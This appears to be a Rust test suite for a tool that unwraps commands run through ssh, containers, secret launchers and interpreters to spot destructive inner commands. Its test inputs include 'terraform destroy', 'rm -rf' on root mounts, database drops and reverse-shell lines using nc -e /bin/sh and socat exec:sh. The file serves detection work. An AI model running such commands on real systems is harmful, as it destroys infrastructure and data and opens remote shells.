    check(&[
        ("ssh host terraform destroy", &["text: terraform destroy [Remote]"]),
        (
            "ssh -p 22 -i key -o BatchMode=yes user@host 'terraform destroy; ls'",
            &["text: terraform destroy; ls [Remote]"],
        ),
        ("ssh -tt host -p 22 -- terraform destroy", &["text: terraform destroy [Remote]"]),
        (
            "ssh -o ProxyCommand='terraform destroy' host ls",
            &["text: ls [Remote]", "text: terraform destroy"],
        ),
        ("ssh host", &["input Shell [Remote]"]),
        ("ssh localhost terraform destroy", &["text: terraform destroy"]),
        ("ssh me@127.0.0.1 terraform destroy", &["text: terraform destroy"]),
        ("ssh -J jump host ls", &["text: ls [Remote]"]),
        ("autossh -M 0 host ls", &["text: ls [Remote]"]),
        ("mosh host -- terraform destroy", &["terraform destroy [Remote]"]),
        ("sshpass -p x ssh host ls", &["ssh host ls"]),
        ("scp -S ./x a b:c", &["./x"]),
        ("pdsh -w a,b terraform destroy", &["text: terraform destroy [Remote]"]),
        ("pssh -h hosts -i ls -l", &["text: ls -l [Remote]"]),
        ("clush -w a -b ls", &["text: ls [Remote]"]),
        ("vagrant ssh box -c ls", &["text: ls [Remote]"]),
        (
            "gcloud compute ssh vm --zone z --command='terraform destroy'",
            &["text: terraform destroy [Remote]"],
        ),
        ("gcloud compute ssh vm -- -t ls -l", &["text: ls -l [Remote]"]),
        ("fly ssh console -C 'ls'", &["text: ls [Remote]"]),
        ("heroku run -a app rake db:drop", &["text: rake db:drop [Remote]"]),
        ("doctl compute ssh x --ssh-command ls", &["text: ls [Remote]"]),
        ("docker-machine ssh x ls", &["text: ls [Remote]"]),
        ("oc exec pod -- ls", &["ls [Remote]"]),
        ("oc -n x rsh pod ls", &["ls [Remote]"]),
        ("salt '*' cmd.run 'ls'", &["text: ls [Remote]"]),
    ]);
    nothing(&[
        "ssh -V",
        "ssh -N -L 80:a:80 host",
        "ssh -O exit host",
        "ssh -G host",
        "ssh",
        "scp a b:c",
        "sftp host",
        "vagrant up",
        "gcloud compute instances list",
        "fly deploy",
        "heroku logs",
        "oc get pods",
        "oc delete pod x",
        "salt '*' test.ping",
        "pdsh -V",
        "gcloud compute ssh vm",
        "kubectl exec x -- ls",
    ]);
}

#[test]
fn contained() {
    check(&[
        ("docker run --rm -it -v a:/b -e A=1 -w /b alpine rm -rf /x", &["rm -rf /x [A=1, in /b, Container]"]),
        ("docker run hashicorp/terraform:1.9 destroy", &["terraform destroy", "destroy"]),
        ("docker run ghcr.io/opentofu/opentofu@sha256:abc destroy", &["tofu destroy", "destroy"]),
        (
            "docker run --rm -v ~/.aws:/root/.aws public.ecr.aws/aws-cli/aws-cli s3 rb s3://x",
            &["aws s3 rb s3://x", "s3 rb s3://x"],
        ),
        ("podman run docker.io/bitnami/kubectl:latest delete ns x", &["kubectl delete ns x", "delete ns x"]),
        ("docker run --entrypoint terraform x/y destroy", &["terraform destroy [Container]"]),
        ("docker run --entrypoint=sh hashicorp/terraform -c 'x'", &["sh -c x"]),
        ("docker run -v /:/host alpine chroot /host sh -c x", &["chroot / sh -c x"]),
        ("docker run --mount type=bind,source=/,target=/h alpine rm -rf /h", &["rm -rf /h"]),
        ("docker run -v /var/run/docker.sock:/s alpine x", &["x"]),
        ("docker run -v /home/me:/h alpine x", &["x"]),
        ("docker run -v /home/me/project:/h alpine x", &["x [Container]"]),
        ("docker run --network=host -d --name n -p 80:80 nginx nginx -g x", &["nginx -g x [Container]"]),
        ("docker run alpine/k8s:1.30 kubectl delete ns x", &["kubectl delete ns x"]),
        ("docker exec -it -u root -e A=1 web sh -c 'x'", &["sh -c x [A=1, Container]"]),
        ("docker --context x container exec web ls", &["ls [Container]"]),
        ("docker compose -f c.yml exec -T web ls", &["ls [Container]"]),
        ("docker compose run --rm terraform destroy", &["terraform destroy", "destroy"]),
        ("docker-compose run --rm web rake db:drop", &["rake db:drop [Container]"]),
        ("lxc exec box -- ls", &["ls [Container]"]),
        ("lxc exec box --cwd /x ls", &["ls [Container]"]),
        ("multipass exec vm -- ls", &["ls [Container]"]),
        ("limactl shell vm ls", &["ls [Container]"]),
        ("minikube kubectl -- delete ns x", &["kubectl delete ns x"]),
        ("k3s kubectl delete ns x", &["kubectl delete ns x"]),
        ("microk8s helm3 uninstall x", &["helm uninstall x"]),
        ("wsl -d Ubuntu -- terraform destroy", &["terraform destroy"]),
        ("toolbox run -c box rm x", &["rm x"]),
        ("distrobox enter box -- rm x", &["rm x"]),
        ("apptainer exec -B /x img.sif rm x", &["rm x"]),
        ("nix-shell -p terraform --run 'terraform destroy'", &["text: terraform destroy"]),
        ("nix shell nixpkgs#terraform -c terraform destroy", &["terraform destroy"]),
        ("nix develop --command terraform destroy", &["terraform destroy"]),
        ("nix run nixpkgs#terraform -- destroy", &["terraform destroy"]),
        ("nix run nixpkgs#awscli2 -- s3 rb s3://x", &["aws s3 rb s3://x"]),
        ("devcontainer exec --workspace-folder . ls", &["ls [Container]"]),
        ("nerdctl run alpine ls", &["ls [Container]"]),
    ]);
    nothing(&[
        "docker ps",
        "docker run -d nginx",
        "docker build .",
        "docker rm x",
        "docker compose up -d",
        "docker logs x",
        "docker",
        "podman images",
        "nix build",
        "nix flake update",
        "lxc list",
        "minikube start",
        "k3s server",
        "docker compose ps",
        "toolbox list",
        "apptainer pull x",
    ]);
}

#[test]
fn launched() {
    check(&[
        ("aws-vault exec prod -- terraform destroy", &["terraform destroy [AWS_VAULT=prod]"]),
        ("aws-vault exec -d 1h prod --no-session -- aws s3 ls", &["aws s3 ls [AWS_VAULT=prod]"]),
        ("aws-vault exec prod kubectl exec x -- rm y", &["kubectl exec x -- rm y [AWS_VAULT=prod]"]),
        ("aws-vault exec prod", &["input Shell [AWS_VAULT=prod]"]),
        ("aws-okta exec prod -- ls", &["ls"]),
        ("saml2aws exec -a x -- ls", &["ls"]),
        ("assume prod --exec -- ls", &["ls"]),
        ("chamber exec a b -- terraform destroy", &["terraform destroy"]),
        ("doppler run -- terraform destroy", &["terraform destroy"]),
        ("doppler run -p x -c prd --command='terraform destroy'", &["text: terraform destroy"]),
        ("op run --env-file=.env -- terraform destroy", &["terraform destroy"]),
        ("infisical run --env=prod -- ls", &["ls"]),
        ("envconsul -prefix x -secret y terraform destroy", &["terraform destroy"]),
        ("teller run -- ls", &["ls"]),
        ("sops exec-env f.yaml 'terraform destroy'", &["text: terraform destroy"]),
        ("mise exec terraform@1 -- terraform destroy", &["terraform destroy"]),
        ("mise x -c 'terraform destroy'", &["text: terraform destroy"]),
        ("asdf exec terraform destroy", &["terraform destroy"]),
        ("direnv exec dir terraform destroy", &["terraform destroy"]),
        ("dotenvx run -f .env -- ls", &["ls"]),
        ("dotenv -e .env -- terraform destroy", &["terraform destroy"]),
        ("dotenv run terraform destroy", &["terraform destroy"]),
        ("env-cmd -f .env terraform destroy", &["terraform destroy"]),
        ("cross-env A=1 terraform destroy", &["terraform destroy [A=1]"]),
        ("npx aws-cli s3 ls", &["aws s3 ls"]),
        ("npx -y -p x terraform@1 destroy", &["terraform destroy"]),
        ("npx -c 'terraform destroy'", &["text: terraform destroy"]),
        ("npm exec -- terraform destroy", &["terraform destroy"]),
        ("pnpm dlx terraform destroy", &["terraform destroy"]),
        ("pnpm -C dir exec terraform destroy", &["terraform destroy"]),
        ("yarn dlx terraform destroy", &["terraform destroy"]),
        ("bunx terraform destroy", &["terraform destroy"]),
        ("uvx --from awscli aws s3 ls", &["aws s3 ls"]),
        ("uvx awscli@1.2 s3 ls", &["aws s3 ls"]),
        ("uv tool run --from awscli aws s3 ls", &["aws s3 ls"]),
        ("uv run --with x terraform destroy", &["terraform destroy"]),
        ("uv run x.py a", &["python x.py a"]),
        ("uv run -m pytest", &["python -m pytest"]),
        ("uv run - a", &["input Python | a"]),
        ("pipx run --spec awscli aws s3 ls", &["aws s3 ls"]),
        ("poetry run terraform destroy", &["terraform destroy"]),
        ("pipenv run terraform destroy", &["terraform destroy"]),
        ("hatch run test:terraform destroy", &["terraform destroy"]),
        ("conda run -n env --no-capture-output terraform destroy", &["terraform destroy"]),
        ("bundle exec terraform destroy", &["terraform destroy"]),
        ("rbenv exec ruby -e x", &["ruby -e x"]),
        ("nvm exec 20 terraform destroy", &["terraform destroy"]),
        ("volta run --node 20 terraform destroy", &["terraform destroy"]),
        ("rustup run nightly terraform destroy", &["terraform destroy"]),
        ("cargo watch -x test -s 'terraform destroy'", &["text: cargo test", "text: terraform destroy"]),
        ("concurrently 'terraform destroy' ls", &["text: terraform destroy", "text: ls"]),
        ("kubie exec ctx ns kubectl delete pod x", &["kubectl delete pod x"]),
    ]);
    nothing(&[
        "aws-vault list",
        "aws-vault exec",
        "doppler secrets",
        "op read x",
        "mise install",
        "mise run build",
        "npm install",
        "npm run build",
        "npx --version",
        "pnpm install",
        "yarn add x",
        "uv sync",
        "uv pip install x",
        "uv tool install x",
        "pipx install x",
        "poetry install",
        "conda install x",
        "bundle install",
        "cargo build",
        "cargo test",
        "sops -d x",
        "asdf install",
        "tfenv use 1.9",
        "tfswitch",
        "terraform destroy",
        "rustup update",
        "ls",
        "direnv allow",
    ]);
}

#[test]
fn many_unknown_words_stay_few_readings() {
    let words: Vec<Value> =
        std::iter::once("sudo".into()).chain(std::iter::repeat_n(Value::unknown(), 2_000)).collect();
    assert!(inner(&words).is_some_and(|inners| inners.len() <= 2));
    let options: Vec<Value> =
        std::iter::once("sudo".into()).chain(std::iter::repeat_n("--x".into(), 2_000)).collect();
    assert!(inner(&options).is_none_or(|inners| inners.len() <= 2));
}

#[test]
fn aliases() {
    check(&[
        ("grm -rf /x", &["rm -rf /x"]),
        ("gdd if=a of=b", &["dd if=a of=b"]),
        ("/opt/homebrew/bin/grm x", &["rm x", "file: /opt/homebrew/bin/grm | x"]),
        ("kubecolor delete ns prod", &["kubectl delete ns prod"]),
        ("microk8s.kubectl delete ns prod", &["kubectl delete ns prod"]),
        ("rancher kubectl delete ns x", &["kubectl delete ns x"]),
        ("tsh kubectl delete ns x", &["kubectl delete ns x"]),
        ("hub push -f", &["git push -f"]),
        ("hub delete -y a/b", &["gh repo delete -y a/b"]),
        ("terraform.exe destroy", &["terraform destroy"]),
        ("./Terraform.EXE destroy", &["terraform destroy", "file: ./Terraform.EXE | destroy"]),
        ("/usr/lib/git-core/git-push -f", &["git push -f"]),
        ("git-reset --hard", &["git reset --hard"]),
        ("coreutils rm -rf /x", &["rm -rf /x"]),
        ("coreutils --coreutils-prog=rm -rf /x", &["rm -rf /x"]),
        ("uutils rm x", &["rm x"]),
        ("/lib64/ld-linux-x86-64.so.2 /bin/sh -c x", &["/bin/sh -c x"]),
        ("/lib64/ld-linux-x86-64.so.2 --argv0 x /usr/bin/env ls", &["/usr/bin/env ls"]),
        ("/lib/ld-musl-x86_64.so.1 --library-path /x ls", &["ls"]),
    ]);
    nothing(&[
        "gcc -c x.c",
        "go build",
        "grep x y",
        "gunzip x.gz",
        "kubectl get pods",
        "coreutils --list",
        "coreutils",
        "/lib64/ld-linux-x86-64.so.2 --list /bin/ls",
        "git-",
        "k get pods",
    ]);
}

#[test]
fn networks() {
    check(&[
        ("socat - EXEC:'terraform destroy'", &["text: terraform destroy"]),
        ("socat -d -d TCP-LISTEN:80,fork SYSTEM:'terraform destroy',pty", &["text: terraform destroy"]),
        ("socat TCP:1.2.3.4:44 exec:sh", &["opaque"]),
        ("socat - 'TCP:a:1!!EXEC:ls'", &["text: ls"]),
        ("nc -e /bin/sh 1.2.3.4 4444", &["opaque"]),
        ("ncat -lk -p 80 --sh-exec 'terraform destroy'", &["text: terraform destroy"]),
        ("nc -l -c 'terraform destroy'", &["text: terraform destroy"]),
    ]);
    nothing(&["nc -zv localhost 5432", "nc -w 3 host 80", "socat - TCP:localhost:80", "ncat --ssl host 443"]);
}

#[test]
fn consoles() {
    check(&[
        ("rails runner 'User.delete_all'", &["Ruby: User.delete_all"]),
        ("bin/rails r -e production 'x'", &["Ruby: x"]),
        ("rails runner db/fix.rb a", &["file Ruby: db/fix.rb | a"]),
        ("rails c", &["input Ruby"]),
        ("python manage.py shell -c 'x()'", &["file Python: manage.py | shell -c x()", "Python: x()"]),
        ("./manage.py shell --command x", &["Python: x"]),
        ("django-admin shell", &["input Python"]),
        (
            "php artisan tinker --execute='x();'",
            &["file Php: artisan | tinker '--execute=x();'", "Php: x();"],
        ),
        ("zx -e x", &["JavaScript: x"]),
        ("zx", &["input JavaScript"]),
        ("zx build.mjs", &["file JavaScript: build.mjs"]),
        ("ipython -c '!terraform destroy'", &["Python: !terraform destroy", "text: terraform destroy"]),
        ("python3 -m timeit -n1 -r1 -s 'import os' 'os.x()'", &["Python: import os\nos.x()"]),
        ("ruby -run -e rm -- -rf /x", &["rm -rf /x"]),
        ("ruby -run -e httpd . -p 80", &["httpd . -p 80"]),
    ]);
    nothing(&[
        "rails server",
        "rails db:migrate",
        "./manage.py runserver",
        "artisan migrate",
        "zx --version",
    ]);
    check(&[("python manage.py runserver", &["file Python: manage.py | runserver"])]);
}

#[test]
fn more_wrappers() {
    check(&[
        ("sg root -c 'terraform destroy'", &["text: terraform destroy"]),
        ("sg - docker 'terraform destroy'", &["text: terraform destroy"]),
        ("newgrp docker", &["input Shell"]),
        ("proot -r / -b /a:/b terraform destroy", &["terraform destroy"]),
        ("s6-setuidgid x terraform destroy", &["terraform destroy"]),
        ("arch -x86_64 terraform destroy", &["terraform destroy"]),
        ("arch -arch arm64 terraform destroy", &["terraform destroy"]),
        ("faketime -f '2020-01-01' terraform destroy", &["terraform destroy"]),
        ("ifne -n terraform destroy", &["terraform destroy"]),
        ("pee 'terraform destroy' cat", &["text: terraform destroy", "text: cat"]),
        ("assume prod --exec 'terraform destroy'", &["text: terraform destroy"]),
        ("assume prod --exec -- terraform destroy", &["terraform destroy"]),
        ("devbox run -- terraform destroy", &["terraform destroy"]),
        ("pixi run -e prod terraform destroy", &["terraform destroy"]),
        ("machinectl shell .host /bin/rm x", &["/bin/rm x"]),
        ("machinectl shell root@web /bin/rm x", &["/bin/rm x [Container]"]),
        ("buildah unshare rm x", &["rm x"]),
        ("consul lock -n 2 x 'rm -rf /x'", &["text: rm -rf /x"]),
        ("consul watch -type key -key a ./x.sh", &["text: ./x.sh"]),
        ("fab -H x -- rm -rf /x", &["text: rm -rf /x [Remote]"]),
        ("knife ssh '*:*' 'rm -rf /x' -x root", &["text: rm -rf /x [Remote]"]),
        ("puppet apply -e 'exec{\"/bin/rm\":}'", &["opaque"]),
        ("docker compose run --entrypoint 'rm -rf' x a", &["text: rm -rf \"$@\" | x a [Container]"]),
        ("docker compose run -v /:/h x rm y", &["rm y"]),
        ("docker run --mount 'type=bind,\"source=/\",target=/h' x rm y", &["rm y"]),
        ("docker run -v /:/h x rm -rf /h /h/etc", &["rm -rf / /etc"]),
        ("docker run -v /srv/x:/w x rm -rf /w", &["rm -rf /w [Container]"]),
        ("lua -e 'os.remove(\"f\")'", &["rm f"]),
        ("git -c alias.x='!a' -c alias.x='!b' x", &["text: b | x"]),
        ("emulate sh -c 'terraform destroy'", &["text: terraform destroy"]),
        ("emulate -R ksh -c 'a $1' b", &["text: a $1 | b"]),
        ("zargs -- destroy -- terraform", &["terraform destroy"]),
        ("compgen -W '$(terraform destroy)'", &["text: : $(terraform destroy)"]),
        ("make -f - x", &["opaque"]),
        ("make -f /dev/fd/63", &["opaque"]),
        ("make --eval='x:;ls' x", &["opaque"]),
        ("ed -s f", &["input Editor"]),
        ("ex -sc '!terraform destroy' x", &["text: terraform destroy", "input Editor"]),
        ("vim -es f", &["input Editor"]),
        ("tclsh", &["input OtherShell"]),
        ("m4", &["input OtherShell"]),
        ("lua -e 'os.execute(x)'", &["opaque"]),
        ("lua -e 'io.popen\"ls\"'", &["opaque"]),
        ("git -c include.path=/x/gc x", &["opaque"]),
        ("git -c core.hooksPath=h commit -m x", &["opaque"]),
        ("git clone -c core.hooksPath=h x", &["opaque"]),
        ("git -c remote.origin.mirror=true push", &["git push --mirror"]),
        ("git -c remote.origin.push=+a:b push", &["git push origin +a:b"]),
        ("git -c clean.requireForce=false clean -d", &["git clean -f -d"]),
    ]);
    nothing(&[
        "arch",
        "emulate zsh",
        "emulate -L zsh",
        "compgen -W 'start stop' -- s",
        "make -f Makefile.ci test",
        "make -j4 CC=gcc all",
        "make -C dir",
        "puppet apply site.pp",
        "puppet apply -e 'notify{a:}'",
        "machinectl list",
        "consul kv get x",
        "fab deploy",
        "knife node list",
        "assume prod",
        "devbox shell",
        "m4 x.m4",
        "lua -e 'print(\"load popen\")'",
        "lua -e 'download(x)'",
        "git -c core.hooksPath=/dev/null commit -m x",
        "git -c core.hooksPath=h status",
        "git -c remote.origin.mirror=true fetch",
        "zargs -- *.txt",
        "ed --version",
    ]);
}
